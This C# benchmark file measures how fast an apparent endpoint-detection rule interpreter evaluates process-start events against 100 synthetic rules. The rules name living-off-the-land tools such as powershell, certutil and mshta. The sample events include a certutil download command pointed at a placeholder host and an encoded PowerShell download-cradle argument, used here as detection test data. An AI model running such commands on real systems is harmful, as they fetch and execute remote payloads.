using BenchmarkDotNet.Attributes;
using Ringfence.Content;

namespace Ringfence.Benchmarks.Content;

/// <summary>
/// Interpreter throughput: one event (12 supplied values) evaluated against a channel file of 100 mixed instances
/// (exact, ignore-case exact, globs, regexes, ranges, sets, multi-criterion rules). Reported per event
/// (OperationsPerInvoke), so events/s = 1 / mean. Target: ≥ 1,000,000 events/s per core, zero allocations.
/// Two channels: "original" (the first benchmark's file, whose 10 rule shapes each repeat one rule 10 times) and "varied"
/// (10 different rules per shape). Two event sets: "mixed" (the original scenario: random realistic events, few matches) and "matching" (every event
/// built to satisfy a randomly chosen instance, so candidates survive their key and globs/regexes/ranges really run).
/// The linear baseline is the same channel compiled without the candidate index (the pre-index interpreter), so the
/// ratio column compares both within one run.
/// </summary>
[MemoryDiagnoser]
public class InterpreterBenchmarks
{
    private const int EventCount = 1024;
    private ChannelEvaluator _evaluator = null!;
    private ChannelEvaluator _linear = null!;
    private InputValue[][] _events = null!;
    private int[] _matches = null!;

    [Params("original", "varied")]
    public string Channel { get; set; } = "original";

    [Params("mixed", "matching")]
    public string EventSet { get; set; } = "mixed";

    public static TemplateType Type { get; } = new("process-start", "Process start",
    [
        TemplateField.Path("image"), TemplateField.String("command_line"), TemplateField.Path("parent_image"),
        TemplateField.String("user"), TemplateField.Enum("integrity", "low", "medium", "high", "system"),
        TemplateField.String("signer"), TemplateField.Integer("session"), TemplateField.Integer("pid"),
        TemplateField.String("image_hash"), TemplateField.Path("cwd"), TemplateField.Integer("token_flags"), TemplateField.String("host"),
    ]);

    /// <summary>
    /// 100 instances, deterministic: most have a cheap discriminating criterion plus optional costlier ones, as real rules do.
    /// In the original channel the tool name cycles with the same period as the rule shape, so each shape's 10 instances
    /// are identical rules; <paramref name="varied"/> gives each of them a different tool (10 distinct rules per shape).
    /// </summary>
    public static ChannelFile MixedChannel(bool varied = false)
    {
        var random = new Random(100);
        var instances = new List<TemplateInstance>();
        string[] tools = ["powershell", "cmd", "rundll32", "regsvr32", "mshta", "wscript", "cscript", "certutil", "bitsadmin", "msbuild"];
        for (var i = 0; i < 100; i++)
        {
            var c = Enumerable.Repeat(Criterion.Wildcard, Type.FieldCount).ToArray();
            var tool = tools[varied ? i / 10 : i % tools.Length];
            switch (i % 10)
            {
                case 0: c[0] = Criterion.Exact($@"C:\Windows\System32\{tool}.exe", ignoreCase: true); break;
                case 1: c[0] = Criterion.Glob($@"*\{tool}.exe", ignoreCase: true); c[2] = Criterion.Glob(@"*\winword.exe", ignoreCase: true); break;
                case 2: c[1] = Criterion.Regex($@"{tool}.*-(enc|encodedcommand)\s+[A-Za-z0-9+/=]{{20,}}", ignoreCase: true); c[4] = Criterion.Set(["high", "system"]); break;
                case 3: c[6] = Criterion.Range(0, 0); c[3] = Criterion.Exact($"svc_{tool}"); break;
                case 4: c[8] = Criterion.Set(Enumerable.Range(0, 50).Select(k => $"{random.NextInt64():x16}{random.NextInt64():x16}{i:x4}")); break;
                case 5: c[0] = Criterion.Glob($"/tmp/{tool}*"); c[3] = Criterion.Exact("root"); break;
                case 6: c[10] = Criterion.Set([0x10L + i, 0x20L + i, 0x40L + i]); c[5] = Criterion.Exact(""); break;
                case 7: c[9] = Criterion.Glob($@"C:\Users\*\AppData\Local\Temp\{tool}\*", ignoreCase: true); c[2] = Criterion.Regex(@"\\(explorer|svchost)\.exe$", ignoreCase: true); break;
                case 8: c[11] = Criterion.Regex($@"^{tool}-[0-9]{{4}}\.corp\.example$"); c[7] = Criterion.Range(4, 65535); break;
                default: c[0] = Criterion.Glob($"*{tool}*"); c[1] = Criterion.Glob("*-urlcache*"); c[4] = Criterion.Exact("medium"); break;
            }
            instances.Add(new TemplateInstance($"rule-{i:D3}", "detect", (Severity)(i % 5 + 1), c));
        }
        return new ChannelFile("C-bench", Type.Id, 1, instances);
    }

    public static InputValue[][] Events(int count)
    {
        var random = new Random(7);
        string[] images = [@"C:\Windows\System32\svchost.exe", @"C:\Windows\System32\powershell.exe", @"C:\Program Files\App\app.exe", "/usr/bin/bash", @"C:\Windows\System32\certutil.exe", "/tmp/cmd-dropper"];
        string[] lines = ["svchost.exe -k netsvcs", "powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==", "app.exe --update", "certutil -urlcache -f http://x/y.exe", "bash -c ls"];
        return [.. Enumerable.Range(0, count).Select(_ => new InputValue[]
        {
            images[random.Next(images.Length)], lines[random.Next(lines.Length)], @"C:\Windows\explorer.exe",
            random.Next(4) == 0 ? "root" : "CORP\\alice", new[] { "low", "medium", "high", "system" }[random.Next(4)],
            random.Next(3) == 0 ? "" : "Microsoft Windows", random.Next(0, 3), random.Next(4, 40000),
            $"{random.NextInt64():x16}{random.NextInt64():x16}", @"C:\Users\alice\Documents", random.Next(0, 200), $"ws-{random.Next(10000):D4}.corp.example",
        })];
    }

    /// <summary>
    /// Events that each satisfy one randomly chosen instance of <paramref name="channel"/> (the other fields as in
    /// <see cref="Events"/>), so every criterion kind is exercised on a hit, not only rejected.
    /// </summary>
    public static InputValue[][] MatchingEvents(ChannelFile channel, int count)
    {
        var random = new Random(11);
        var background = Events(count);
        var events = new InputValue[count][];
        for (var n = 0; n < count; n++)
        {
            var values = background[n];
            var instance = channel.Instances[random.Next(channel.Instances.Count)];
            for (var f = 0; f < instance.Criteria.Count; f++)
            {
                var c = instance.Criteria[f];
                values[f] = c.Kind switch
                {
                    CriterionKind.Wildcard => values[f],
                    CriterionKind.Exact when c.Integer is { } i => i,
                    CriterionKind.Exact => random.Next(2) == 0 ? c.Text! : c.IgnoreCase ? c.Text!.ToUpperInvariant() : c.Text!,
                    CriterionKind.Glob => c.Text!.Replace("*", random.Next(2) == 0 ? "" : "bob", StringComparison.Ordinal),
                    CriterionKind.Range => c.Min + random.NextInt64(c.Max - c.Min + 1),
                    CriterionKind.Set when c.IsIntegerSet => c.Integers[random.Next(c.Integers.Count)],
                    CriterionKind.Set => c.Texts[random.Next(c.Texts.Count)],
                    _ => RegexSample(c.Text!),
                };
            }
            events[n] = values;
        }
        return events;
    }

    private static string RegexSample(string pattern)
    {
        var tool = pattern.Split(['-', '.', '^'], StringSplitOptions.RemoveEmptyEntries)[0];
        return pattern switch
        {
            _ when pattern.Contains("encodedcommand", StringComparison.Ordinal) => $"{tool} -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0",
            _ when pattern.Contains("explorer", StringComparison.Ordinal) => @"C:\Windows\svchost.exe",
            _ => $"{tool}-{pattern.Length % 10}{pattern.Length:D3}.corp.example",
        };
    }

    [GlobalSetup]
    public void Setup()
    {
        var channel = MixedChannel(varied: Channel == "varied");
        var compiled = CompiledChannel.Compile(channel, Type);
        _evaluator = compiled.CreateEvaluator();
        _linear = CompiledChannel.Compile(channel, Type, new InterpreterOptions { IndexCandidates = false }).CreateEvaluator();
        _events = EventSet == "matching" ? MatchingEvents(channel, EventCount) : Events(EventCount);
        _matches = new int[100];
        // Honesty checks: both paths give the same matches, neither faults, and the matching set really matches.
        var a = new int[100];
        var b = new int[100];
        var matched = 0;
        foreach (var e in _events)
        {
            var n = _evaluator.Evaluate(e, a);
            if (n != _linear.Evaluate(e, b) || !a.AsSpan(0, n).SequenceEqual(b.AsSpan(0, n)))
                throw new InvalidOperationException("indexed and linear evaluation disagree");
            matched += n > 0 ? 1 : 0;
        }
        if (_evaluator.DisabledCount + _linear.DisabledCount != 0)
            throw new InvalidOperationException("benchmark events fault");
        if (EventSet == "matching" && matched != _events.Length)
            throw new InvalidOperationException($"only {matched} of {_events.Length} 'matching' events match");
    }

    [Benchmark(OperationsPerInvoke = EventCount, Description = "Evaluate one event against 100 mixed instances")]
    public int Evaluate()
    {
        var total = 0;
        foreach (var e in _events)
            total += _evaluator.Evaluate(e, _matches);
        return total;
    }

    [Benchmark(Baseline = true, OperationsPerInvoke = EventCount, Description = "Linear baseline (no candidate index)")]
    public int EvaluateLinear()
    {
        var total = 0;
        foreach (var e in _events)
            total += _linear.Evaluate(e, _matches);
        return total;
    }
}
